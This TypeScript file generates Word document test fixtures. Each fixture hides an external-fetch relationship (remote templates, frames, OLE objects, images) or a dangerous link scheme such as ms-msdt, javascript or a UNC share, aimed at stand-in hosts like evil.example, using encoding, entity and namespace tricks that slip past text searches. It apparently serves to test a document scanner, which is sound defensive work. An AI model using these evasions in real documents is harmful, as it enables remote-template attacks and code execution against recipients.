import type { Random } from './random.ts'
import {
  office,
  packageRelationships,
  packed,
  relationship,
  relationships,
  wordDocument,
  wordParts,
} from './word-document.ts'

type Make = (random: Random) => Buffer

const settings = 'word/_rels/settings.xml.rels'
const withSettings = (content: string | Buffer, name = settings): Buffer =>
  packed({ ...wordParts(), [name]: content })

const fetching = [
  'attachedTemplate',
  'frame',
  'subDocument',
  'oleObject',
  'mailMergeSource',
  'image',
  'video',
]
const anyHost = (random: Random) =>
  random.pick(['http://evil.example/a.dotm', 'https://10.0.0.1/x', 'file://evil/share/t.dotm', '\\\\evil\\t'])
const external = (random: Random) =>
  relationship({ type: random.pick(fetching), target: anyHost(random), mode: 'External' })

/** Replaces one letter of a word by a character reference. */
function referenced(word: string, random: Random): string {
  const at = random.int(word.length)
  const code = word.charCodeAt(at)
  const reference = random.pick([`&#${code};`, `&#x${code.toString(16)};`, `&#x000${code.toString(16)};`])
  return word.slice(0, at) + reference + word.slice(at + 1)
}

const raw = (type: string, target: string, mode: string) =>
  `<Relationship Id="r1" Type="${type}" Target="${target}" TargetMode="${mode}"/>`

const utf16 = (text: string, isBig: boolean, hasMark: boolean): Buffer => {
  const bytes = Buffer.from((hasMark ? '\uFEFF' : '') + text, 'utf16le')
  return isBig ? bytes.swap16() : bytes
}

const utf32 = (text: string): Buffer => {
  const codes = [0xfe_ff, ...text].map((one) => (typeof one === 'number' ? one : (one.codePointAt(0) ?? 0)))
  const bytes = Buffer.alloc(codes.length * 4)
  codes.forEach((code, at) => bytes.writeUInt32LE(code, at * 4))
  return bytes
}

const declared = (encoding: string, inner: string) =>
  `<?xml version="1.0" encoding="${encoding}"?><Relationships xmlns="${packageRelationships}">${inner}</Relationships>`

/** A relationship that fetches, written so that a text search misses it. */
export const hiddenLinks: Record<string, Make> = {
  'refers to a letter of the mode': (r) =>
    withSettings(relationships(raw(`${office}/${r.pick(fetching)}`, anyHost(r), referenced('External', r)))),
  'refers to a letter of the type': (r) =>
    withSettings(
      relationships(raw(`${office}/${referenced('attachedTemplate', r)}`, anyHost(r), 'External')),
    ),
  'prefixes its elements': (r) => {
    const prefix = r.pick(['p', 'ns0', 'a-b', 'ก'])
    return withSettings(
      `<${prefix}:Relationships xmlns:${prefix}="${packageRelationships}"><${prefix}:Relationship Id="a" Type="${office}/frame" Target="${anyHost(r)}" TargetMode="External"/></${prefix}:Relationships>`,
    )
  },
  'declares the namespace on each element': (r) =>
    withSettings(
      `<x:Relationships xmlns:x="${packageRelationships}"><Relationship xmlns="${packageRelationships}" Id="a" Type="${office}/attachedTemplate" Target="${anyHost(r)}" TargetMode="External"/></x:Relationships>`,
    ),
  'is UTF-16 with a mark': (r) => withSettings(utf16(relationships(external(r)), r.int(2) === 1, true)),
  'is UTF-16 without a mark': (r) => withSettings(utf16(relationships(external(r)), r.int(2) === 1, false)),
  'is UTF-32': (r) => withSettings(utf32(relationships(external(r)))),
  'declares another encoding': (r) =>
    withSettings(
      declared(
        r.pick(['UTF-7', 'ISO-8859-1', 'windows-874', 'TIS-620', 'EBCDIC-CP-US', 'UTF-16']),
        external(r),
      ),
    ),
  'has bytes that are not UTF-8': (r) =>
    withSettings(
      Buffer.concat([Buffer.from(relationships('')), Buffer.from(r.pick(['c080', 'eda080', 'ff']), 'hex')]),
    ),
  'has an angle bracket in a value': (r) =>
    withSettings(
      relationships(
        `<Relationship Id="a>b" Type="${office}/attachedTemplate" Target="${anyHost(r)}" TargetMode="External"/>`,
      ),
    ),
  'has a second type in another namespace': (r) =>
    withSettings(
      relationships(
        `<Relationship xmlns:z="urn:z" z:Type="x/hyperlink" Id="a" Type="${office}/attachedTemplate" Target="${anyHost(r)}" TargetMode="External"/>`,
      ),
    ),
  'orders its attributes the other way': (r) =>
    withSettings(
      relationships(
        `<Relationship TargetMode='External'\n\tTarget = '${anyHost(r)}'\r\nType\t=\t'${office}/${r.pick(fetching)}' Id='q'></Relationship>`,
      ),
    ),
  'begins with a byte order mark': (r) => withSettings(`\uFEFF${relationships(external(r))}`),
  'wraps it in comments and CDATA': (r) =>
    withSettings(
      relationships(`<!-- <Relationship/> --><![CDATA[ <Relationship ]]>${external(r)}<!-- > -->`),
    ),
  'defaults the mode in a document type': (r) =>
    withSettings(
      `<!DOCTYPE Relationships [<!ATTLIST Relationship TargetMode CDATA "External">]><Relationships xmlns="${packageRelationships}"><Relationship Id="a" Type="${office}/attachedTemplate" Target="${anyHost(r)}"/></Relationships>`,
    ),
  'names the mode by an entity': (r) =>
    withSettings(
      `<!DOCTYPE R [<!ENTITY m "External">]><Relationships xmlns="${packageRelationships}">${raw(`${office}/frame`, anyHost(r), '&m;')}</Relationships>`,
    ),
  'is XML 1.1': (r) => withSettings(relationships(external(r)).replace('version="1.0"', `version="1.1"`)),
  'has a processing instruction': (r) =>
    withSettings(
      relationships(`<?${r.pick(['mso-x', 'xml-stylesheet', 'php'])} href="http://evil.example"?>`),
    ),
  'ends its type like a link': (r) =>
    withSettings(
      relationships(
        raw(
          `${office}/attachedTemplate${r.pick(['#', '?', '/../'])}/relationships/hyperlink`,
          anyHost(r),
          'External',
        ),
      ),
    ),
  'is of the strict standard': (r) =>
    withSettings(
      relationships(
        raw(
          `http://purl.oclc.org/ooxml/officeDocument/relationships/${r.pick(fetching)}`,
          anyHost(r),
          'External',
        ),
      ),
    ),
  'is of a vendor': (r) =>
    withSettings(
      relationships(
        raw(
          `http://schemas.microsoft.com/office/20${10 + r.int(15)}/relationships/thing`,
          'x.xml',
          'Internal',
        ),
      ),
    ),
  'says an address without saying that it is outside': (r) =>
    withSettings(
      relationships(
        raw(
          `${office}/image`,
          r.pick(['http://evil.example/a', '//evil/a', 'file:///c:/x', '\\\\evil\\a']),
          'Internal',
        ),
      ),
    ),
  'writes the mode in another way': (r) =>
    withSettings(
      relationships(
        raw(
          `${office}/hyperlink`,
          'https://a.example',
          r.pick(['external', 'EXTERNAL', ' External', 'Both']),
        ),
      ),
    ),
  'links to a share or a program': (r) =>
    wordDocument({
      links: relationship({
        type: 'hyperlink',
        target: r.pick([
          'file://evil/x',
          'javascript:alert(1)',
          'ms-msdt:/id',
          '\\\\evil\\x',
          'search-ms:query=x',
          'data:text/html,x',
          'vbscript:x',
        ]),
        mode: 'External',
      }),
    }),
  'links with a control character in the scheme': (r) =>
    wordDocument({
      links: relationship({
        type: 'hyperlink',
        target: `java&#${r.pick([9, 10, 13])};script:alert(1)`,
        mode: 'External',
      }),
    }),
  'climbs out of the package': (r) =>
    withSettings(
      relationships(
        raw(`${office}/image`, r.pick(['../../../x.png', '../..//../x', '/../x.png']), 'Internal'),
      ),
    ),
  'has an id twice': (r) =>
    withSettings(
      relationships(
        external(r).replace('External', 'Internal') +
          raw(`${office}/image`, 'media/image1.png', 'Internal').repeat(2),
      ),
    ),
  'nests its relationships': (r) =>
    withSettings(
      relationships(`<Relationship Id="a" Type="${office}/image" Target="x">${external(r)}</Relationship>`),
    ),
  'has the list in a folder of other case': (r) =>
    withSettings(
      relationships(external(r)),
      r.pick([
        'word/_RELS/settings.xml.rels',
        'WORD/_rels/settings.xml.RELS',
        'word/_Rels/Settings.xml.Rels',
      ]),
    ),
  'has the list where none belongs': (r) =>
    packed({
      ...wordParts({
        types:
          '<Override PartName="/word/list.xml" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
      }),
      'word/list.xml': relationships(external(r)),
    }),
  'fetches a picture': (r) =>
    wordDocument({
      links: relationship({
        type: 'image',
        target: `http://evil.example/${r.int(99)}.png`,
        mode: 'External',
      }),
    }),
}
